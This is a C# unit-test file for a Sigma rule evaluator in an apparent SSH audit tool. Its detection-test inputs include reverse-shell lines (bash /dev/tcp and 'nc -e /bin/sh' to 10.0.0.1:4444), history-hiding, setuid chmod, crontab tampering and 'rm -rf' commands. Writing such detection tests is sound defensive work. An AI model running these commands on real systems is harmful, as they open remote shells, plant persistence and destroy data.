using Gatehouse.Contracts;
using static Gatehouse.Audit.Tests.Detection.Sigma.SigmaScenarios;

namespace Gatehouse.Audit.Tests.Detection.Sigma;

/// <summary>The compiled evaluator without infrastructure: one row per modifier and condition form, with the case that must not match.</summary>
public sealed class When_a_sigma_rule_is_evaluated
{
    [Theory]
    // Plain values: the whole field, case-insensitive, with * and ? wildcards and \* for a star.
    [InlineData("Program: rm", "rm -rf /tmp/x", true)]
    [InlineData("Program: RM", "rm -rf /tmp/x", true)]
    [InlineData("Program: r", "rm -rf /tmp/x", false)]
    [InlineData("Program: 'r?'", "rm x", true)]
    [InlineData("Program: 'r?'", "rmdir x", false)]
    [InlineData("CommandLine: 'rm *'", "rm -rf /tmp/x", true)]
    [InlineData("CommandLine: 'echo \\*'", "echo *", true)]
    [InlineData("CommandLine: 'echo \\*'", "echo x", false)]
    // A list is an OR.
    [InlineData("Program: [curl, wget]", "wget http://x", true)]
    [InlineData("Program: [curl, wget]", "fetch http://x", false)]
    // contains, startswith, endswith.
    [InlineData("CommandLine|contains: '/dev/tcp/'", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true)]
    [InlineData("CommandLine|contains: '/DEV/TCP/'", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true)]
    [InlineData("CommandLine|contains: '/dev/tcp/'", "ls /dev/", false)]
    [InlineData("CommandLine|startswith: 'sudo '", "sudo -i", true)]
    [InlineData("CommandLine|startswith: 'sudo '", "echo sudo -i", false)]
    [InlineData("CommandLine|endswith: '.sh'", "bash install.sh", true)]
    [InlineData("CommandLine|endswith: '.sh'", "bash install.sh.bak", false)]
    [InlineData("CommandLine|contains: 'a*c'", "xx abbbc yy", true)]
    // all: every value, in any order.
    [InlineData("CommandLine|contains|all: ['socket', 'connect']", "python3 -c 'import socket; s.connect((h,p))'", true)]
    [InlineData("CommandLine|contains|all: ['socket', 'connect']", "python3 -c 'import socket'", false)]
    [InlineData("Arguments|all: ['-r', '-f']", "rm -f -r /srv", true)]
    [InlineData("Arguments|all: ['-r', '-f']", "rm -r /srv", false)]
    // cased: exact case.
    [InlineData("CommandLine|contains|cased: 'HISTFILE'", "unset HISTFILE", true)]
    [InlineData("CommandLine|contains|cased: 'HISTFILE'", "unset histfile", false)]
    // re: case-sensitive unless |i.
    [InlineData("CommandLine|re: 'chmod [0-7]?[4-7][0-7]{3}'", "chmod 4755 /bin/x", true)]
    [InlineData("CommandLine|re: 'CHMOD'", "chmod 4755 /bin/x", false)]
    [InlineData("CommandLine|re|i: 'CHMOD'", "chmod 4755 /bin/x", true)]
    // windash: an option written with -, --, /, or a typographic dash.
    [InlineData("Arguments|windash: '-all'", "ls --all", true)]
    [InlineData("Arguments|windash: '-e'", "nc --e /bin/sh h 1", true)]
    [InlineData("Arguments|windash: '-e'", "nc -x /bin/sh h 1", false)]
    [InlineData("CommandLine|windash|contains: ' -e '", "nc -x /bin/sh h", false)]
    [InlineData("CommandLine|windash|contains: ' -e '", "nc \u2013e /bin/sh h", true)]
    // Program and Arguments belong to one simple command of the line, whatever wraps it.
    [InlineData("Program: rm", "sudo -u root /bin/rm -rf /srv", true)]
    [InlineData("Program: rm", "echo rm -rf /srv", false)]
    [InlineData("Command|contains: 'rm -rf'", "ls; env rm -rf /srv", true)]
    public void A_selection_on_a_command_matches_as_Sigma_specifies(string selection, string line, bool matches)
    {
        var rule = Rule("ssh_command", $"  sel:\n    {selection}\n  condition: sel");

        Assert.Equal(matches, rule.Fires(Command(line)));
    }

    [Theory]
    [InlineData("SourceIp|cidr: '203.0.113.0/24'", "203.0.113.7", true)]
    [InlineData("SourceIp|cidr: '203.0.113.0/24'", "198.51.100.7", false)]
    [InlineData("SourceIp|cidr: ['10.0.0.0/8', '2001:db8::/32']", "2001:db8::5", true)]
    [InlineData("SourceIp|cidr: '10.0.0.0/8'", "::ffff:10.1.2.3", true)]
    public void Cidr_matches_addresses_in_the_range(string selection, string source, bool matches)
    {
        var rule = Rule("authentication", $"  sel:\n    {selection}\n  condition: sel");

        Assert.Equal(matches, rule.Fires(Failed("alice", source)));
    }

    [Fact]
    public void Should_test_with_null_and_exists_whether_the_event_has_the_field()
    {
        var noReason = Rule("authentication", "  sel:\n    Reason: null\n  condition: sel");
        var hasReason = Rule("authentication", "  sel:\n    Reason|exists: true\n  condition: sel");

        Assert.True(noReason.Fires(Login("alice")));
        Assert.False(noReason.Fires(Failed("alice")));
        Assert.True(hasReason.Fires(Failed("alice")));
        Assert.False(hasReason.Fires(Login("alice")));
    }

    [Fact]
    public void Should_read_a_map_as_an_and_of_its_fields_and_a_list_of_maps_as_an_or()
    {
        var and = Rule("authentication", "  sel:\n    User: root\n    Outcome: failure\n  condition: sel");
        var or = Rule("authentication", "  sel:\n    - User: root\n    - Outcome: failure\n  condition: sel");

        Assert.True(and.Fires(Failed("root")));
        Assert.False(and.Fires(Failed("alice")));
        Assert.False(and.Fires(Login("root")));
        Assert.True(or.Fires(Failed("alice")));
        Assert.True(or.Fires(Login("root")));
        Assert.False(or.Fires(Login("alice")));
    }

    public static TheoryData<string, string, bool> Conditions => new()
    {
        { "a and b", "root failure", true },
        { "a and b", "root success", false },
        { "a or b", "alice failure", true },
        { "a or b", "alice success", false },
        { "a and not b", "root success", true },
        { "a and not b", "root failure", false },
        { "not a and not b", "alice success", true },
        { "a and (b or c)", "root success-from-lab", true },
        { "a and (b or c)", "root success", false },
        { "(a or b) and not c", "alice failure-from-lab", false },
        { "a or b and c", "root success", true },
        { "1 of sel*", "alice failure", true },
        { "1 of sel*", "root success", false },
        { "any of sel*", "alice failure", true },
        { "all of sel*", "alice failure-from-lab", true },
        { "all of sel*", "alice failure", false },
        { "1 of them", "root success", true },
        { "1 of them", "alice success", false },
        { "all of them", "root failure-from-lab", true },
        { "2 of them", "root failure", true },
        { "not 1 of them", "alice success", true },
        { "a and all of sel*", "root failure", false },
        { "a and all of sel*", "root failure-from-lab", true },
    };

    /// <summary>a: the user is root; b: the login failed; c: it came from the lab; sel_b and sel_c as b and c; _hidden (alice) is left out of "them".</summary>
    [Theory]
    [MemberData(nameof(Conditions))]
    public void Should_combine_selections_in_conditions(string condition, string scenario, bool matches)
    {
        var rule = Rule("authentication", $"""
              a:
                User: root
              b:
                Outcome: failure
              c:
                SourceIp|cidr: 192.0.2.0/24
              sel_b:
                Outcome: failure
              sel_c:
                SourceIp|cidr: 192.0.2.0/24
              _hidden:
                User: alice
              condition: {condition}
            """);
        var parts = scenario.Split(' ');
        var source = parts[1].EndsWith("-from-lab", StringComparison.Ordinal) ? "192.0.2.9" : "203.0.113.7";
        IAccessEvent accessEvent = parts[1].StartsWith("failure", StringComparison.Ordinal) ? Failed(parts[0], source) : Login(parts[0], source);

        Assert.Equal(matches, rule.Fires(accessEvent));
    }

    [Fact]
    public void Should_read_a_list_of_conditions_as_an_or()
    {
        var rule = Rule("authentication", "  a:\n    User: root\n  b:\n    Outcome: failure\n  condition:\n    - a\n    - b");

        Assert.True(rule.Fires(Login("root")));
        Assert.True(rule.Fires(Failed("alice")));
        Assert.False(rule.Fires(Login("alice")));
    }

    [Fact]
    public void Should_judge_not_per_simple_command_so_an_excluded_program_does_not_hide_another()
    {
        var rule = Rule("ssh_command", "  sel:\n    CommandLine|contains: '/etc/crontab'\n  readers:\n    Program: cat\n  condition: sel and not readers");

        Assert.False(rule.Fires(Command("cat /etc/crontab")));
        Assert.True(rule.Fires(Command("cat /etc/crontab; echo '* * * * * x' >> /etc/crontab")));
    }

    [Fact]
    public void Should_see_blocked_commands_with_their_outcome()
    {
        var rule = Rule("ssh_command", "  sel:\n    Program: nc\n    Outcome: blocked\n  condition: sel");

        Assert.True(rule.Fires(Blocked("nc -e /bin/sh 10.0.0.1 4444")));
        Assert.False(rule.Fires(Command("nc -e /bin/sh 10.0.0.1 4444")));
    }

    [Fact]
    public void Should_show_a_rule_only_its_categorys_events()
    {
        var rule = Rule("file_transfer", "  sel:\n    Path|startswith: /etc/\n  condition: sel");

        Assert.True(rule.Fires(File(SftpOperation.OpenForWrite, "/etc/passwd")));
        Assert.False(rule.Fires(Command("vi /etc/passwd")));
    }
}
